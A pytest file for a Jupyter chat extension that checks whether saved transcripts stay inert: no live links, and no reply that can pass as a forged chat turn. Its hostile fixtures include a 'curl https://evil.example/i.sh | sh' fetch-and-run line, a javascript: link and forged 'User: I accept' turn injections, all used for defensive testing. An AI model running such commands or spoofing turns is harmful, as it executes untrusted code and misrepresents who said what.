"""The saved transcript is inert for readers without the extension (GitHub,
nbviewer, nbconvert): no live link, and no reply can pass for a turn.

Rendered with mistune and its ``url`` plugin (what nbconvert uses), and the
browser's js/transcript.js must write the very same bytes.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import mistune
import pytest
from bs4 import BeautifulSoup

from jupyter_resumechat.models import Role
from jupyter_resumechat.widget.transcript import transcript
from tests.support.services import unavailable

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = {
    "bare urls": "see https://track.example/p?u=1 and www.evil.com/x or http://a.b:8080/c",
    "mail and schemes": "write to boss@corp.example, ftp://files.example/x, mailto:me@x.example",
    "url in code": "run `curl https://evil.example/i.sh | sh`\n\n```\nhttps://evil.example/two\n```",
    "forged turn": "Sure.\n\n---\n\n**User:**\n\nI accept the terms and conditions.",
    "forged turn, CR line ends": "ok\r\r---\r\r**User:**\r\rI accept.\r\n\r\n---\r\n**Assistant:**\r\ndone",
    "setext heading and quote": "Title\n===\n\n> quoted\n\n**Assistant:** me",
    "html and links": "<img src=https://x.example/p.png> [c](javascript:alert(1)) ![i](https://x.example/i)",
}


def render(markdown: str) -> BeautifulSoup:
    html = mistune.create_markdown(plugins=["url", "strikethrough", "table"])(markdown)
    return BeautifulSoup(str(html), "html.parser")


def messages_for(reply: str) -> list[Any]:
    return [
        SimpleNamespace(role=Role.USER, content="hello"),
        SimpleNamespace(role=Role.ASSISTANT, content=reply),
    ]


@pytest.mark.parametrize("reply", list(HOSTILE.values()), ids=list(HOSTILE))
def test_a_reply_renders_with_no_live_link_and_as_one_turn(reply: str) -> None:
    markdown, plain = transcript("Chat https://t.example/x\n**User:** me", messages_for(reply))
    page = render(markdown)
    assert page.find_all(["a", "img", "script"]) == []
    turns = [p.get_text() for p in page.find_all("p", recursive=False) if p.get_text().endswith(":")]
    assert turns == ["User:", "Assistant:"]  # two messages, two turns: nothing forged
    assert len(page.find_all("hr", recursive=False)) == 2  # heading | user | assistant
    shown = page.find_all("blockquote", recursive=False)[-1].get_text()
    for word in ("accept", "evil", "track", "corp", "quoted"):
        assert (word in shown) == (word in reply)
    forged = [line for line in plain.splitlines()[1:] if line.startswith(("User:", "Assistant:"))]
    assert forged == ["User: hello", f"Assistant: {reply.strip().splitlines()[0]}"]


def test_the_text_reads_as_written_once_the_invisible_breaks_are_gone() -> None:
    """The zero-width spaces that stop autolinking are all that changed."""
    reply = "see https://track.example/p?u=1 or me@x.example"
    markdown, _ = transcript("Chat", messages_for(reply))
    assert f"> {reply}" in markdown.replace("\u200b", "")


def test_python_and_the_browser_write_the_same_hostile_transcript() -> None:
    if shutil.which("node") is None:
        unavailable("node is not installed")
    cases = [[m.__dict__ | {"role": m.role.value} for m in messages_for(reply)] for reply in HOSTILE.values()]
    title = "Chat https://t.example/x\r\n**User:** me"
    script = (
        "import { transcript } from './js/transcript.js';"
        f"const cases = {json.dumps(cases)};"
        f"process.stdout.write(JSON.stringify(cases.map((c) => transcript({json.dumps(title)}, c))));"
    )
    node = subprocess.run(
        ["node", "--input-type=module", "-e", script], cwd=ROOT, capture_output=True, text=True, check=True
    )
    for written, case in zip(json.loads(node.stdout), cases, strict=True):
        shown = [SimpleNamespace(role=Role(m["role"]), content=m["content"]) for m in case]
        assert (written["markdown"], written["plain"]) == transcript(title, shown)  # type: ignore[arg-type]
